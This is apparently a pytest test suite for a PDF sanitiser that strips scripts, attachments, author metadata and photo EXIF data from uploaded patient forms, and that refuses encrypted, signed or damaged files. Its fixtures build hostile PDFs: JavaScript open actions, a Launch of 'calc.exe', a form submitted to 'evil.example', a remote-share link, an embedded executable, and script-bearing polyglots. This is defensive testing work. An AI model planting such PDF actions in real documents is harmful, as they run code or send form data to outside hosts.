import inspect
import json
import re
import subprocess
import sys
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream

from documents import office, pdf_cleaning
from documents.pdf_cleaning import PdfRefused, cleaned_pdf
from documents.processing import REASONS
from tests.images import nasty

from .making import action, annotated, pdf_bytes, with_picture, zip_bytes

SECRET = b"Maria Secret"
SCRIPT = b"<html><script>alert(1)</script></html>"


def cleaned(content: bytes) -> tuple[Pdf, list[str], bytes]:
    plain, removed = cleaned_pdf(content, "Patient form")
    return pikepdf.open(BytesIO(plain)), removed, plain


def opening(kind: str, **more):
    return lambda pdf: pdf.Root.__setattr__("OpenAction", action(kind, **more))


def named_script(pdf: Pdf) -> None:
    names = Array(["start", action("JavaScript", JS="app.alert(1)")])
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def attached(pdf: Pdf) -> None:
    pdf.attachments["tool.exe"] = b"MZ program"


def additional_action(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action("JavaScript", JS="app.alert(1)"))


def xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<script/>"))


def chained(pdf: Pdf) -> None:
    more = action("JavaScript", JS="app.alert(1)")
    annotated(Subtype=Name.Link, A=action("URI", URI="https://a.example", Next=more))(pdf)


def script_in_a_stream(pdf: Pdf) -> None:
    script = pdf.make_indirect(Stream(pdf, b"app.alert(1)"))
    pdf.Root.OpenAction = pdf.make_indirect(action("JavaScript", JS=script))


CHANGED = {
    "a script at opening": (opening("JavaScript", JS="app.alert(1)"), ["scripts"]),
    "a script in a stream": (script_in_a_stream, ["scripts"]),
    "a script with a name": (named_script, ["scripts"]),
    "a script of a page": (additional_action, ["scripts"]),
    "a script behind a link": (chained, ["scripts"]),
    "a program at opening": (opening("Launch", F="calc.exe"), ["scripts"]),
    "a form sent elsewhere": (opening("SubmitForm", F="https://evil.example"), ["scripts"]),
    "a file of another disk": (opening("GoToR", F="//evil.example/a.pdf"), ["scripts"]),
    "an XFA form": (xfa, ["scripts"]),
    "a link that is a script": (
        annotated(Subtype=Name.Link, A=action("URI", URI="javascript:alert(1)")),
        ["scripts"],
    ),
    "an attached program": (attached, ["files"]),
    "a pinned file": (annotated(Subtype=Name.FileAttachment, FS=Dictionary()), ["files"]),
    "a film": (annotated(Subtype=Name.RichMedia), ["files"]),
}


@pytest.mark.parametrize("name", CHANGED)
def test_what_runs_or_is_attached_is_taken_out_and_told(name):
    change, told = CHANGED[name]
    pdf, removed, plain = cleaned(pdf_bytes(change))
    assert removed == told
    assert len(pdf.pages) == 1
    whole = pdf.Root.unparse() + b"".join(each.unparse() for each in pdf.objects)
    for trace in (b"alert", b"calc.exe", b"evil", b"MZ program", b"FileAttachment", b"RichMedia"):
        assert trace not in whole + plain


def test_links_and_jumps_stay():
    link = annotated(Subtype=Name.Link, A=action("URI", URI="https://clinic.example/"))
    pdf, removed, _plain = cleaned(pdf_bytes(link))
    assert str(pdf.pages[0].Annots[0].A.URI) == "https://clinic.example/"
    assert removed == []


def form(pdf: Pdf) -> None:
    annotated(Subtype=Name.Widget, FT=Name.Tx, T="birthday")(pdf)
    annotations = pdf.pages[0].obj.Annots
    annotations[0] = pdf.make_indirect(annotations[0])
    pdf.Root.AcroForm = Dictionary(Fields=Array([annotations[0]]))


def test_a_field_keeps_its_name_and_a_note_loses_its_writer():
    pdf, _removed, _plain = cleaned(pdf_bytes(form))
    assert str(pdf.pages[0].Annots[0].T) == "birthday"
    note = annotated(Subtype=Name.Text, T=SECRET.decode(), Contents="See page 2")
    pdf, _removed, plain = cleaned(pdf_bytes(note))
    assert "/T" not in pdf.pages[0].Annots[0]


def told_of_its_author(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = SECRET.decode()
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = [SECRET.decode()]
    pdf.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private=SECRET.decode()))
    pdf.trailer["/ID"] = Array([pikepdf.String(SECRET.decode()), pikepdf.String("x")])


def test_nothing_tells_who_made_it_and_its_title_is_ours():
    pdf, _removed, plain = cleaned(pdf_bytes(told_of_its_author))
    assert dict(pdf.docinfo) == {"/Title": "Patient form"}
    assert "/Metadata" not in pdf.Root
    whole = pdf.trailer.unparse() + b"".join(each.unparse() for each in pdf.objects)
    assert SECRET not in plain + whole


def test_a_photo_within_loses_its_place_and_camera_alone():
    photo = nasty.from_a_phone()
    pdf, _removed, _plain = cleaned(pdf_bytes(with_picture(photo)))
    kept = pdf.pages[0].Resources.XObject.Photo.read_raw_bytes()
    assert b"Exif" in photo and b"Exif" not in kept
    assert pikepdf.PdfImage(pdf.pages[0].Resources.XObject.Photo).as_pil_image().size == (640, 480)


@pytest.mark.parametrize(
    "content",
    [
        SCRIPT + pdf_bytes(),
        pdf_bytes() + SCRIPT,
        pdf_bytes() + zip_bytes({"run.js": "alert(1)"}),
    ],
    ids=["a page before it", "a page behind it", "an archive behind it"],
)
def test_a_file_of_two_kinds_is_a_pdf_alone_afterwards(content):
    _pdf, _removed, plain = cleaned(content)
    assert plain.startswith(b"%PDF-")
    assert b"script" not in plain and b"run.js" not in plain


def signed(pdf: Pdf) -> None:
    signature = Dictionary(Type=Name.Sig, Contents=b"1", ByteRange=Array([0, 1, 2, 3]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([Dictionary(FT=Name.Sig, V=signature)]))


def nested(pdf: Pdf) -> None:
    inner = Array([])
    for _level in range(400):
        inner = Array([inner])
    pdf.Root.Deep = inner


def empty_pdf() -> bytes:
    target = BytesIO()
    with Pdf.new() as pdf:
        pdf.save(target)
    return target.getvalue()


REFUSED = {
    "with a password": (
        pdf_bytes(encryption=pikepdf.Encryption(owner="one", user="two")),
        "encrypted",
    ),
    "with rights": (pdf_bytes(encryption=pikepdf.Encryption(owner="one", user="")), "encrypted"),
    "signed": (pdf_bytes(signed), "signed"),
    "without a page": (empty_pdf(), "no_page"),
    "cut off": (pdf_bytes()[:-150], "damaged"),
    "its beginning alone": (b"%PDF-1.7\n", "damaged"),
    "noise": (b"%PDF-1.7\n" + bytes(range(256)) * 20, "damaged"),
    "nested deep": (pdf_bytes(nested), "damaged"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_cleaned_soundly_is_refused(name):
    content, reason = REFUSED[name]
    with pytest.raises(PdfRefused, match=reason):
        cleaned_pdf(content, "Form")


def test_more_than_can_be_looked_through_is_refused(monkeypatch):
    monkeypatch.setattr("documents.pdf_cleaning.MOST_OBJECTS", 3)
    with pytest.raises(PdfRefused, match="too_many_objects"):
        cleaned_pdf(pdf_bytes(signed), "Form")


def test_every_reason_has_words():
    source = inspect.getsource(pdf_cleaning) + inspect.getsource(office)
    assert set(re.findall(r'Refused\("(\w+)"\)', source)) == set(REASONS)


@pytest.fixture
def run_cleaning(settings):
    def run(content: bytes) -> tuple[dict, bytes]:
        command = [sys.executable, "-m", "documents.pdf_cleaning", "Form"]
        run = subprocess.run(
            command, input=content, capture_output=True, cwd=settings.BASE_DIR, check=True
        )
        head, _line, plain = run.stdout.partition(b"\n")
        return json.loads(head), plain

    return run


def test_as_a_program_it_gives_what_was_removed_and_the_pdf(run_cleaning):
    said, plain = run_cleaning(pdf_bytes(attached))
    assert said == {"removed": ["files"]}
    assert plain.startswith(b"%PDF-")


def test_as_a_program_it_names_the_reason(run_cleaning):
    assert run_cleaning(b"%PDF-1.7\n") == ({"refused": "damaged"}, b"")
